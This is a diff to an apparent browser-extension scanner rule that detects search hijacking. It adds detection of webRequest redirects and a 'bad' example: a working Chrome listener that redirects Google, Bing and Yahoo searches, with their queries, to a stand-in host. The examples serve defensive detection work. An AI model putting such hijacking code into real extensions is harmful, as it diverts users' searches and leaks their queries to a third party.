@@ -50,6 +50,9 @@ export const searchHijack = defineRule({
   examples: {
     bad: [
       backgroundExample(
+        'const pages = { "www.google.com": "q", "www.bing.com": "q", "search.yahoo.com": "p" }; chrome.webRequest.onBeforeRequest.addListener((d) => { const u = new URL(d.url); const asked = u.searchParams.get(pages[u.hostname]); if (!asked) return {}; const to = new URL("https://find.clock.example/r"); to.searchParams.set("k", asked); return { redirectUrl: to.href }; }, { urls: ["*://*.google.com/search*", "*://*.bing.com/search*"], types: ["main_frame"] }, ["blocking"]);',
+      ),
+      backgroundExample(
         'chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });',
       ),
       backgroundExample(
@@ -221,7 +224,9 @@ function* followed(facts: Facts, declared: readonly Hit[]): Iterable<Hit> {
       .map(({ file }) => file.path),
   );
   if (telling.size === 0) return;
-  if (!scripts.some(({ script }) => textsOf(script).some(({ text }) => text.length < 300 && isAnswers(text)))) return;
+  const isWritten = scripts.some(({ script }) =>
+    textsOf(script).some(({ text }) => text.length < 300 && isAnswers(text)),
+  );
   if (
     !scripts.some(({ script }) => [...textsOf(script), ...expressionsOf(script)].some(({ text }) => ASKED.test(text)))
   )
@@ -234,7 +239,8 @@ function* followed(facts: Facts, declared: readonly Hit[]): Iterable<Hit> {
       !source.label.startsWith('address')
     )
       return undefined;
-    const host = sink.to === undefined ? undefined : hostOf(sink.to);
+    const host = sink.to === undefined ? redirectedTo(unit.script) : hostOf(sink.to);
+    if (host === undefined && !isWritten) return undefined;
     if (host !== undefined && ENGINE.test(`/${host}/`)) return undefined;
     return {
       severity: 'high',
@@ -245,6 +251,16 @@ function* followed(facts: Facts, declared: readonly Hit[]): Iterable<Hit> {
   for (const one of hits)
     if (!declared.some((other) => other.place.path === one.place.path && other.place.line === one.place.line))
       yield one;
+}
+
+/** The one host that requests are led to by the script's answers to them. */
+function redirectedTo(script: ScriptFacts): string | undefined {
+  const hosts = new Set(
+    first(callsOf(script, 'chrome.webRequest.onBeforeRequest.addListener'))
+      .flatMap((call) => redirects(script, call.args[0] ?? 0))
+      .map(({ to }) => hostOf(to)),
+  );
+  return hosts.size === 1 ? [...hosts][0] : undefined;
 }
 
 /** Whether a text is the address of a page of answers of somebody who is no well-known search service. */
